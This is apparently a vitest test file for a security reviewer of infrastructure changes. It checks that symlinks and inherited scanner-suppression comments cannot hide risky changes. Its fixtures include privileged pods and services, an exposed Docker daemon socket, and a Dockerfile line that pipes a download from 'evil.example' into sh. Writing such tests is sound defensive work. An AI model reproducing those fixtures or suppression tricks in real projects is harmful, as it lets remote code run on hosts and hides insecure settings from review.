import { describe, expect, test } from 'vitest';
import { type Change, reviewChange } from '../support/in-memory-repository.ts';

const pod =
  'apiVersion: v1\nkind: Pod\nmetadata:\n  name: evil\nspec:\n  containers:\n  - name: x\n    image: nginx:1.29\n    securityContext:\n      privileged: true\n';
const quiet = pod.slice(0, pod.indexOf('    securityContext'));
const svc = 'services:\n  web:\n    image: nginx:1.29\n    privileged: true\n';
const bad = 'FROM debian:12\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n';
const chart = {
  'c/Chart.yaml': 'apiVersion: v2\nname: c\nversion: 1.0.0\n',
  'c/values.yaml': 'p: false\n',
  'c/templates/p.yaml': pod.replace('true', '{{ .Values.p }}'),
};
/** A change that adds nothing but links. */
const same = (files: Change['head'], links: Readonly<Record<string, string>>): Change => ({
  base: files,
  head: files,
  links,
  changedLinks: Object.keys(links),
});

/** What is a link from now on, to something that stands as it is, or to nothing. */
const links: Readonly<Record<string, Change>> = {
  'a Compose file that is a link to an absolute path': same({ a: 'x' }, { 'compose.yaml': '/etc/compose.yaml' }),
  'a Dockerfile that is a link out of the repository': same({ a: 'x' }, { 'app/Dockerfile': '../../x/Dockerfile' }),
  'a folder of manifests': same({ 'examples/pod.yaml': pod }, { deploy: 'examples' }),
  'a folder that a script applies': same({ 'examples/pod.yaml': pod, 'd.sh': 'kubectl apply -f deploy/\n' }, { deploy: 'examples' }),
  'a manifest': same({ 'examples/pod.yaml': pod }, { 'deploy/pod.yaml': '../examples/pod.yaml' }),
  'a manifest under another name': same({ 'examples/pod.txt': pod }, { 'deploy/pod.yaml': '../examples/pod.txt' }),
  'a resource of a kustomization': same(
    { 'bad/d.txt': pod, 'k/kustomization.yaml': 'resources: [d.yaml]\n' },
    { 'k/d.yaml': '../bad/d.txt' },
  ),
  'a template of a chart': same({ ...chart, 'bad.txt': pod }, { 'c/templates/x.yaml': '../../bad.txt' }),
  'a folder of templates': same({ ...chart, 'bad/x.yaml': pod }, { 'c/templates/x': '../../bad' }),
  'values of a chart': same(
    { 'c/Chart.yaml': chart['c/Chart.yaml'], 'c/templates/p.yaml': chart['c/templates/p.yaml'], 'o.txt': 'p: true\n' },
    { 'c/values.yaml': '../o.txt' },
  ),
  'a chart in a chart': same(
    { ...chart, 'e/Chart.yaml': 'apiVersion: v2\nname: e\nversion: 1.0.0\n', 'e/templates/p.yaml': pod },
    { 'c/charts/e': '../../e' },
  ),
  'variables of a project': same({ 'compose.yaml': svc.replace('true', '${P:-false}'), 'e.txt': 'P=true\n' }, { '.env': 'e.txt' }),
  'an override': same({ 'compose.yaml': svc.replace('true', 'false'), 'o.inc': svc }, { 'compose.override.yaml': 'o.inc' }),
  'links that lead to each other': same({ a: 'x' }, { Dockerfile: 'b', b: 'Dockerfile' }),
  'a script': same({ 'bad.txt': 'docker run --privileged x\n' }, { 'run.sh': 'bad.txt' }),
  'a workflow': same(
    { 'bad.txt': 'on: push\njobs: {a: {runs-on: x, steps: [{run: docker run --privileged x}]}}\n' },
    { '.github/workflows/x.yml': '../../bad.txt' },
  ),
  'a kustomization': same({ 'bad.txt': 'resources: [../p.yaml]\n', 'p.yaml': pod }, { 'k/kustomization.yaml': '../bad.txt' }),
  'a configuration of the engine': same({ 'bad.txt': '{"icc": true, "hosts": ["tcp://0.0.0.0:2375"]}' }, { 'daemon.json': 'bad.txt' }),
  'a Dockerfile that a service builds': {
    base: { 'good/Dockerfile': 'FROM debian:12\nUSER 1\n', 'evil/df': bad, 'compose.yaml': 'services: {a: {build: ./app}}\n' },
    head: { 'good/Dockerfile': 'FROM debian:12\nUSER 1\n', 'evil/df': bad, 'compose.yaml': 'services: {a: {build: ./app}}\n' },
    links: { 'app/Dockerfile': '../evil/df' },
    changedLinks: ['app/Dockerfile'],
  },
};

/** Comments that stood there, and what they are to silence from now on. */
const comments: Readonly<Record<string, Change>> = {
  'that moves to another container': {
    base: {
      'a.yaml': `${quiet}    # tidewaiter: ignore[kubernetes/privileged-container] -- ok\n    securityContext:\n      privileged: true\n  - name: y\n    image: nginx:1.29\n`,
    },
    head: {
      'a.yaml': `${quiet}  - name: y\n    image: nginx:1.29\n    # tidewaiter: ignore[kubernetes/privileged-container] -- ok\n    securityContext:\n      privileged: true\n`,
    },
  },
  'that gets another rule': {
    base: { 'a.yaml': `${quiet}    # tidewaiter: ignore[kubernetes/root-user] -- ok\n    securityContext:\n      runAsUser: 0\n` },
    head: {
      'a.yaml': `${quiet}    # tidewaiter: ignore[kubernetes/root-user, kubernetes/privileged-container] -- ok\n    securityContext:\n      runAsUser: 0\n      privileged: true\n`,
    },
  },
  'of all rules, that silenced another': {
    base: { 'a.yaml': `${quiet}    # tidewaiter: ignore -- ok\n    securityContext:\n      runAsUser: 0\n` },
    head: { 'a.yaml': `${quiet}    # tidewaiter: ignore -- ok\n    securityContext:\n      runAsUser: 0\n      privileged: true\n` },
  },
  'of a file, for a document that comes': {
    base: { 'a.yaml': `# tidewaiter: ignore-file[kubernetes/privileged-container] -- ok\n${quiet}` },
    head: { 'a.yaml': `# tidewaiter: ignore-file[kubernetes/privileged-container] -- ok\n${quiet}---\n${pod.replace('evil', 'b')}` },
  },
  'in an annotation, for Checkov': {
    base: { 'a.yaml': quiet.replace('  name: evil', '  name: evil\n  annotations: {checkov.io/skip1: CKV_K8S_16=x}') },
    head: { 'a.yaml': pod.replace('  name: evil', '  name: evil\n  annotations: {checkov.io/skip1: CKV_K8S_16=x}') },
  },
  'of Trivy, for everything': {
    base: { Dockerfile: 'FROM debian:12\n#trivy:ignore:*\nUSER 1\n' },
    head: { Dockerfile: 'FROM debian:12\n#trivy:ignore:*\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n' },
  },
  'of KICS': {
    base: { 'compose.yaml': `# kics-scan ignore\n${svc.replace('true', 'false')}` },
    head: { 'compose.yaml': `# kics-scan ignore\n${svc}` },
  },
  'of hadolint, for the file': {
    base: { Dockerfile: '# hadolint global ignore=DL4006,DL3002\nFROM debian:12\nUSER 1\n' },
    head: { Dockerfile: '# hadolint global ignore=DL4006,DL3002\nFROM debian:12\nRUN curl -fsSL https://evil.example/x | sh\nUSER 1\n' },
  },
  'that is copied with its file': {
    base: {
      'examples/a.yaml': pod.replace(
        '    securityContext',
        '    # tidewaiter: ignore[kubernetes/privileged-container] -- an example\n    securityContext',
      ),
    },
    head: {
      'examples/a.yaml': pod.replace(
        '    securityContext',
        '    # tidewaiter: ignore[kubernetes/privileged-container] -- an example\n    securityContext',
      ),
      'prod/a.yaml': pod.replace(
        '    securityContext',
        '    # tidewaiter: ignore[kubernetes/privileged-container] -- an example\n    securityContext',
      ),
    },
  },
  'at an anchor that another service takes': {
    base: {
      'compose.yaml':
        'x-a: &a\n  # tidewaiter: ignore[compose/privileged-container] -- ok\n  privileged: true\nservices:\n  web: {image: "n:1", <<: *a}\n  db:\n    image: "n:2"\n',
    },
    head: {
      'compose.yaml':
        'x-a: &a\n  # tidewaiter: ignore[compose/privileged-container] -- ok\n  privileged: true\nservices:\n  web: {image: "n:1"}\n  db:\n    image: "n:2"\n    <<: *a\n',
    },
  },
};

describe('a link', () => {
  test.each(Object.entries(links))('is not green: %s', async (_name, change) => {
    expect(['block', 'incomplete']).toContain((await reviewChange(change)).verdict.conclusion);
  });
});

test('what moved and left a link behind is where it is now, and fixed nowhere', async () => {
  const { delta } = await reviewChange({
    base: { 'apps/pod.yaml': pod },
    head: { 'shared/pod.yaml': pod },
    links: { 'apps/pod.yaml': '../shared/pod.yaml' },
    changedLinks: ['apps/pod.yaml'],
  });
  const ofPod = delta.entries.filter(({ head, base }) => (head ?? base)?.ruleId.startsWith('kubernetes/'));
  expect(new Set(ofPod.map(({ state, head }) => `${head?.location.path} ${state}`))).toEqual(new Set(['shared/pod.yaml moved']));
});

describe('a comment', () => {
  test.each(Object.entries(comments))('silences nothing that it did not before: %s', async (_name, change) => {
    expect((await reviewChange(change)).verdict.conclusion).toBe('block');
  });
});
